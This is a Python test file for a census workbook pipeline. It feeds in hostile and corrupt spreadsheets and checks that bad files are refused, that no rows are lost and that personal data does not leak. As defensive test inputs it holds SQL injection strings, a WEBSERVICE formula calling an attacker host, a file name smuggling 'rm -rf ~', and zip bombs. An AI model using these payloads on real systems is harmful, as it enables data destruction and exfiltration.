"""One real run over a folder of hostile, broken and good workbooks (the real flow, the real
DuckDB file, reports, Prefect logs and artifacts, the published copy):

- every bad file is reported with its rule code and a message naming it, and the good
  districts load (issue 8: hostile files);
- no data row is lost: each is loaded, rejected with a code, or its file is refused;
- personal data (names, ID numbers, notes) reaches no log, artifact, report or the
  published copy (the district's error workbook is the documented exception: SECURITY.md).
"""

from __future__ import annotations

import logging
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pytest
from prefect.client.orchestration import get_client
from prefect.client.schemas.filters import (
    ArtifactFilter,
    ArtifactFilterFlowRunId,
    LogFilter,
    LogFilterFlowRunId,
)
from prefect.logging.handlers import APILogWorker

from flows.census_flow import annual_census
from tests.factory import household, write_workbook
from tests.reliability import hostile

YEAR = 2019
MAX_ROWS = 60  # lowered row limit for this run (CENSUS_MAX_ROWS), so a 80-row file crosses it


def person(i: int, **overrides) -> dict:
    """A household whose personal fields are unique strings the scans look for."""
    personal = {
        "head_name": f"Giàng Thị Bí Mật {i:03d}",
        "head_id_number": f"0381{i:08d}",
        "note": f"Riêng tư: vay nặng lãi {i:03d}",
    }
    return household(i, **(personal | overrides))


DBP = {"district": "Điện Biên Phủ", "commune": "Him Lam", "area": "Thành thị"}
TC = {"district": "Tủa Chùa", "commune": "Tủa Chùa"}
NP = {"district": "Nậm Pồ", "commune": "Nà Hỳ"}
MC = {"district": "Mường Chà", "commune": "Mường Chà"}
NOTE = {"note": "Ghi chú"}

# file -> the rule code it must be refused with.
REFUSED = {
    "not-a-spreadsheet.xlsx": "WB020",
    "saved-as-html.xls": "WB020",
    "empty.xlsx": "WB020",
    "truncated.xlsx": "WB021",
    "corrupt.xlsx": "WB021",
    "zip-bomb.xlsx": "WB022",
    "zip-bomb-lying-sizes.xlsx": "WB022",
    "password.xlsx": "WB023",
    "too-many-rows.xlsx": "WB024",
    "huge-cell.xlsx": "WB025",
}


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, prefect_harness):
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "raw" / str(YEAR)
    folder.mkdir(parents=True)
    scratch = root / "scratch"
    scratch.mkdir()
    inputs: dict[str, list[dict]] = {}

    # Good districts, with bad rows among them.
    inputs["muong-nhe.xlsx"] = [
        person(1),
        person(2),
        person(3, household_size=45),  # HH023
        person(4, head_id_number="12345"),  # HH017: the bad ID is masked in audit
        person(5, commune=hostile.SQL_TEXT),  # HH021: rejected as data
        person(6, head_name="Robert'); DROP TABLE private.households;--"),  # loads
        person(7, village="x'; DELETE FROM core.households WHERE true; --"),  # loads
        person(8, household_id=None),  # HH001
        person(9, household_size="=1/0"),  # a formula, no cached value: HH008, HH042
    ]
    write_workbook(folder / "muong-nhe.xlsx", inputs["muong-nhe.xlsx"], labels=NOTE)
    inputs["dien-bien-phu.xlsx"] = [
        person(101, **DBP, head_name="Lò\x07 Thị\x1b Bí Mật 101"),  # control characters
        person(102, **DBP),
        person(103, **DBP),
        person(104, **DBP),
    ]
    hostile.xlsxwriter_workbook(
        folder / "dien-bien-phu.xlsx",
        inputs["dien-bien-phu.xlsx"],
        formulas={
            (1, "household_size"): ("=2+3", 5),
            (2, "household_size"): ("=2+3", None),  # no cached value: HH008, HH042
            (3, "village"): ('=WEBSERVICE("http://attacker.example/")', "Bản Mới"),
        },
    )
    inputs["tua-chua.xlsx"] = [person(201, **TC), person(202, **TC)]
    hostile.with_external_link(folder / "tua-chua.xlsx", scratch, inputs["tua-chua.xlsx"])
    odd = "xã ..; $(rm -rf ~) 'DROP'.xlsx"
    inputs[odd] = [person(301, **NP), person(302, **NP)]
    write_workbook(folder / odd, inputs[odd], labels=NOTE)

    # Files refused whole.
    hostile.not_a_spreadsheet(folder / "not-a-spreadsheet.xlsx")
    hostile.html_as_xls(folder / "saved-as-html.xls")
    (folder / "empty.xlsx").write_bytes(b"")
    hostile.truncated(folder / "truncated.xlsx", scratch)
    hostile.corrupt(folder / "corrupt.xlsx", scratch)
    hostile.zip_bomb(folder / "zip-bomb.xlsx", scratch)
    hostile.zip_bomb(folder / "zip-bomb-lying-sizes.xlsx", scratch, lie=True)
    hostile.password_protected(folder / "password.xlsx")
    write_workbook(folder / "too-many-rows.xlsx", [person(400 + i, **MC) for i in range(80)])
    write_workbook(folder / "huge-cell.xlsx", [person(501, **MC, note="PLACEHOLDER")], labels=NOTE)
    hostile.replace_in_parts(folder / "huge-cell.xlsx", b"PLACEHOLDER", b"z" * 50_000)

    warehouse, reports = root / "census.duckdb", root / "reports"
    records: list[logging.LogRecord] = []
    handler = logging.Handler()
    handler.emit = records.append
    loggers = [logging.getLogger(), logging.getLogger("prefect")]
    for lg in loggers:
        lg.addHandler(handler)
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("CENSUS_MAX_ROWS", str(MAX_ROWS))
            state = annual_census(
                year=YEAR,
                raw_dir=root / "raw",
                warehouse_path=warehouse,
                reports_dir=reports,
                return_state=True,
            )
    finally:
        for lg in loggers:
            lg.removeHandler(handler)
    # Prefect sends logs to its server in batches from a background worker: wait for them to
    # arrive, or the server's copy read by the tests below may still be short.
    APILogWorker.drain_all(timeout=30)
    return {
        "root": root,
        "folder": folder,
        "inputs": inputs,
        "warehouse": warehouse,
        "reports": reports,
        "state": state,
        "summary": state.result(),
        "records": records,
    }


def query(warehouse: Path, sql: str, params=None):
    with duckdb.connect(str(warehouse), read_only=True) as con:
        return con.execute(sql, params or []).fetchall()


def test_every_bad_file_is_reported_and_the_good_districts_load(hostile_run):
    summary, warehouse = hostile_run["summary"], hostile_run["warehouse"]
    assert summary.status == "partial"
    assert set(summary.failed) == set(REFUSED)
    reported = {
        f: (code, rule)
        for f, code, rule in query(
            warehouse,
            "SELECT source_file, rule_code, rule FROM audit.rejections "
            "WHERE rule_code LIKE 'WB%' AND severity = 'error'",
        )
    }
    assert {f: code for f, (code, _) in reported.items()} == REFUSED
    for name, (_, rule) in reported.items():
        assert name in rule or name in summary.failed[name]  # the message names the file
        assert summary.failed[name].startswith(name + ": ")
    loaded = dict(query(warehouse, "SELECT district, count(*) FROM core.households GROUP BY ALL"))
    assert loaded == {"Mường Nhé": 4, "Điện Biên Phủ": 3, "Tủa Chùa": 2, "Nậm Pồ": 2}
    notices = {
        (f, c)
        for f, c in query(
            warehouse, "SELECT source_file, rule_code FROM audit.rejections WHERE severity='notice'"
        )
    }
    assert {("tua-chua.xlsx", "WB026"), ("dien-bien-phu.xlsx", "WB027")} <= notices


def test_sql_looking_text_is_stored_as_data_never_run(hostile_run):
    warehouse = hostile_run["warehouse"]
    [(name,)] = query(
        warehouse, "SELECT head_name FROM private.households WHERE household_id = 'MN-000006'"
    )
    assert name == "Robert'); DROP TABLE private.households;--"
    [(village,)] = query(
        warehouse, "SELECT village FROM core.households WHERE household_id = 'MN-000007'"
    )
    assert village == "x'; DELETE FROM core.households WHERE true; --"
    [(value, code)] = query(
        warehouse,
        "SELECT value, rule_code FROM audit.rejections WHERE household_id = 'MN-000005'",
    )
    assert (value, code) == (hostile.SQL_TEXT, "HH021")


def sheet_rows(path: Path) -> list[tuple[int, str | None]]:
    """(Excel row, household id) of every data row, read with openpyxl independently of the
    pipeline: rows under the 'Mã hộ' header with any cell filled, totals and signature out."""
    wb = openpyxl.load_workbook(path, read_only=True)
    out = []
    for ws in wb.worksheets:
        col, header_row = None, None
        for n, row in enumerate(ws.iter_rows(values_only=True), start=1):
            if col is None:
                if "Mã hộ" in row:
                    col, header_row = row.index("Mã hộ"), n
                continue
            cells = [v for v in row if v not in (None, "")]
            first = str(cells[0]) if cells else ""
            if not cells or first.startswith(("Tổng", "Người lập")) or len(cells) <= 1:
                continue
            out.append((n, row[col]))
        assert header_row is not None
    wb.close()
    return out


def test_no_row_is_lost(hostile_run):
    """Every data row of every readable input is in core.households or rejected in
    audit.rejections with a code; every refused file has its file-level rejection."""
    warehouse, folder = hostile_run["warehouse"], hostile_run["folder"]
    loaded = set(
        query(warehouse, "SELECT source_file, excel_row, household_id FROM core.households")
    )
    rejected = set(
        query(
            warehouse,
            "SELECT source_file, excel_row, household_id FROM audit.rejections "
            "WHERE severity = 'error' AND excel_row IS NOT NULL",
        )
    )
    total = 0
    for name, rows in hostile_run["inputs"].items():
        found = sheet_rows(folder / name)
        assert [i for _, i in found] == [r["household_id"] for r in rows]
        for excel_row, hid in found:
            total += 1
            key = (name, excel_row, hid)
            assert (key in loaded) != (key in rejected), key  # exactly one of the two
        ids = {r["household_id"] for r in rows} - {None}
        in_core = {h for f, _, h in loaded if f == name}
        in_audit = {h for f, _, h in rejected if f == name}
        assert ids == (in_core | in_audit) - {None}
    assert total == 17
    refused = dict(
        query(
            warehouse,
            "SELECT source_file, count(*) FROM audit.rejections WHERE excel_row IS NULL "
            "AND severity = 'error' AND rule_code LIKE 'WB02%' GROUP BY ALL",
        )
    )
    assert refused == dict.fromkeys(REFUSED, 1)


def secrets(inputs: dict[str, list[dict]]) -> set[str]:
    out = set()
    for rows in inputs.values():
        for r in rows:
            for key in ("head_name", "head_id_number", "note"):
                if r.get(key):
                    out.add(str(r[key]).replace("\x07", "").replace("\x1b", ""))
    out.discard("12345")  # too short to tell apart from other numbers; it is masked (HH017)
    return out


def leaks(texts: list[str], needles: set[str]) -> list[tuple[str, str]]:
    return [(n, t[:200]) for t in texts for n in needles if n in t]


def test_no_personal_data_in_logs_artifacts_reports_or_published_copy(hostile_run):
    needles = secrets(hostile_run["inputs"])
    assert len(needles) == 3 * 17 - 1  # 17 rows; the 5-digit bad ID is left out

    # Logs: every record emitted during the run, and what the Prefect server stored.
    texts = [r.getMessage() for r in hostile_run["records"]]
    flow_run_id = hostile_run["state"].state_details.flow_run_id
    with get_client(sync_client=True) as client:
        logs = client.read_logs(
            log_filter=LogFilter(flow_run_id=LogFilterFlowRunId(any_=[flow_run_id]))
        )
        artifacts = client.read_artifacts(
            artifact_filter=ArtifactFilter(flow_run_id=ArtifactFilterFlowRunId(any_=[flow_run_id]))
        )
    assert len(texts) > 5 and len(logs) > 5
    texts += [log.message for log in logs]
    assert leaks(texts, needles) == []

    # Artifacts.
    assert artifacts, "the run publishes artifacts"
    texts = [f"{a.data} {a.description}" for a in artifacts]
    assert leaks(texts, needles) == []

    # Reports, except each district's own error workbook (documented in SECURITY.md).
    texts = []
    officer_copies = []
    for path in hostile_run["reports"].rglob("*"):
        if not path.is_file():
            continue
        if path.name.endswith(("-loi.xlsx", "-canh-bao.xlsx")):
            officer_copies.append(path)
            continue
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as z:
                texts += [z.read(n).decode("utf-8", "replace") for n in z.namelist()]
        else:
            texts.append(path.read_bytes().decode("utf-8", "replace"))
    assert officer_copies  # the districts with problems got theirs
    # The error workbook does hold the officer's own names: the scan would catch a leak.
    with zipfile.ZipFile(officer_copies[0]) as z:
        inside = " ".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())
    assert leaks([inside], needles)
    assert leaks(texts, needles) == []

    # The warehouse outside `private`, and the published copy.
    assert leaks(table_texts(hostile_run["warehouse"], exclude=("private",)), needles) == []
    from warehouse.publish import publish

    published = publish(hostile_run["warehouse"], hostile_run["root"] / "published.duckdb")
    published_texts = table_texts(published)
    assert any("Mường Nhé" in t for t in published_texts)  # the scan reads real content
    assert leaks(published_texts, needles) == []


def table_texts(path: Path, exclude: tuple[str, ...] = ()) -> list[str]:
    """Every value of every table, as text (lists and maps included)."""
    out = []
    with duckdb.connect(str(path), read_only=True) as con:
        tables = con.execute(
            "SELECT schema_name, table_name FROM duckdb_tables() WHERE NOT internal"
        ).fetchall()
        for schema, table in tables:
            if schema in exclude:
                continue
            rows = con.execute(f'SELECT * FROM "{schema}"."{table}"').fetchall()
            out += [str(row) for row in rows]
    return out
